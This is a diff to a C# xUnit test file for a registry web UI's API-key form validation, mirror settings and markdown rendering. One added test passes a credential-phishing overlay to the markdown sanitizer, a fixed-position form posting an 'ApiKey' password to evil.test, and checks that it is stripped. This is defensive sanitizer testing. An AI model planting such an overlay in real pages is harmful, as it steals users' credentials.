@@ -49,7 +49,7 @@ public sealed class UiPiecesTests
     {
         var form = new KeyForm
         {
-            Name = "ci", Scopes = [Scopes.ModulesRead], Namespaces = "acme, globex\nshared", ExpiresOn = new DateOnly(2027, 1, 31),
+            Name = "ci", Scopes = [Scopes.ModulesRead], Namespaces = "acme, globex\nshared", ExpiresOn = "2027-01-31",
             OwnerKind = "service_account", ServiceAccount = "deploy",
         };
         var request = form.ToRequest(GlobexManager, "p");
@@ -65,6 +65,21 @@ public sealed class UiPiecesTests
         var admin = new ApiKeyPrincipal("k", "admin", [Scopes.Admin], null);
         Assert.Equal("acme", new KeyForm { OwnerKind = "service_account", ServiceAccount = "acme/ci" }.ToRequest(admin, null).Owner!.Organization);
         Assert.Null(new KeyForm { OwnerKind = "" }.ToRequest(admin, null).Owner);
+
+        // Blank namespaces from a key limited to some mean all of them, as the form says (the API wants them named).
+        var limited = new ApiKeyPrincipal("k", "team", [Scopes.ApiKeysManage], ["acme", "shared"]);
+        Assert.Equal(["acme", "shared"], new KeyForm { Name = "ci" }.ToRequest(limited, null).Namespaces!);
+        Assert.Null(new KeyForm { Name = "ci" }.ToRequest(admin, null).Namespaces);
+    }
+
+    [Fact]
+    public void A_key_form_with_a_malformed_day_or_rate_is_refused_rather_than_read_as_none()
+    {
+        Assert.Null(new KeyForm { ExpiresOn = "2027-01-31", RateLimitPerHour = "100" }.Problem());
+        Assert.Null(new KeyForm { ExpiresOn = " ", RateLimitPerHour = "" }.Problem());
+        Assert.Contains("'Expires on'", new KeyForm { ExpiresOn = "12/31/2026" }.Problem(), StringComparison.Ordinal);
+        Assert.Contains("'Requests per hour'", new KeyForm { RateLimitPerHour = "lots" }.Problem(), StringComparison.Ordinal);
+        Assert.Equal(100, new KeyForm { RateLimitPerHour = "100" }.ToRequest(new ApiKeyPrincipal("k", "admin", [Scopes.Admin], null), null).RateLimitPerHour);
     }
 
     [Fact]
@@ -80,6 +95,15 @@ public sealed class UiPiecesTests
         Assert.Equal(["hashicorp/aws", "hashicorp/random"], providers.Providers);
         Assert.True(providers.PullThrough);
         Assert.Null(request.Credentials); // empty credential fields on a create mean none
+
+        // Fields cleared on the edit form clear the settings: every platform, any version.
+        var cleared = MirrorForm.Of(settings);
+        (cleared.Platforms, cleared.Versions) = ("", " ");
+        var (edited, editProblem) = cleared.ToRequest(MirrorKinds.TerraformProviders, withCredentials: false).ToSettings(settings);
+        Assert.Null(editProblem);
+        var editedProviders = Assert.IsType<ProviderMirrorSettings>(edited!.KindSettings);
+        Assert.Empty(editedProviders.Platforms);
+        Assert.True(string.IsNullOrEmpty(editedProviders.Versions));
     }
 
     [Fact]
@@ -92,6 +116,28 @@ public sealed class UiPiecesTests
         Assert.DoesNotContain("<h1", html, StringComparison.Ordinal); // the page has the one h1
         Assert.DoesNotContain("id=\"title\"", html, StringComparison.Ordinal);
         Assert.Contains("rel=\"noopener noreferrer nofollow\"", html, StringComparison.Ordinal);
+    }
+
+    [Fact]
+    public void A_readme_brings_no_form_nor_style_and_one_nested_too_deeply_shows_as_text()
+    {
+        var html = MarkdownHtml.Render("""
+            - [x] done
+
+            <div style="position:fixed;inset:0"><form action="https://evil.test/x" method="post">Session expired:
+            <input type="password" name="ApiKey"><button>Sign in</button></form></div>
+            """).Value;
+        Assert.Contains("type=\"checkbox\"", html, StringComparison.Ordinal); // the task list keeps its box
+        foreach (var gone in new[] { "<form", "password", "<button", "style=", "evil.test" })
+        {
+            Assert.DoesNotContain(gone, html, StringComparison.OrdinalIgnoreCase);
+        }
+
+        Assert.Contains("rel=\"noopener noreferrer nofollow\"", MarkdownHtml.Render("[x](//evil.test/)").Value, StringComparison.Ordinal);
+
+        var deep = MarkdownHtml.Render(string.Concat(Enumerable.Repeat("> ", 200)) + "<b>deep</b>").Value;
+        Assert.StartsWith("<pre>", deep, StringComparison.Ordinal);
+        Assert.Contains("&lt;b&gt;deep", deep, StringComparison.Ordinal);
     }
 
     [Fact]
@@ -129,5 +175,10 @@ public sealed class UiPiecesTests
         Assert.Null(CatalogPageCursor.Parse("module//x", null));
         Assert.Null(CatalogPageCursor.Parse("7/acme/x", null));
         Assert.Null(CatalogPageCursor.Parse("chart/acme/x", null));
+        Assert.Null(CatalogPageCursor.Parse("module/\0/x", null)); // PostgreSQL refuses a NUL in text
+
+        Assert.Equal("net work", CatalogReach.Words(" net\0 work\n"));
+        Assert.Null(CatalogReach.Words("\0 "));
+        Assert.Equal(200, CatalogReach.Words(new string('a', 500))!.Length);
     }
 }
